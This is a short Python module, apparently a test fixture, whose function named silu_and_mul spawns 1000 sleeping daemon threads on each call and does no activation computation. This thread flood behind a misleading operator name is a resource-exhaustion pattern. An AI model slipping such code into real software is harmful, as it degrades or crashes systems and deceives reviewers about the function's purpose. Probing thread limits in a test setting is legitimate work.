"""Starts threads until it may not."""

import threading
import time


def silu_and_mul(x, out):
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
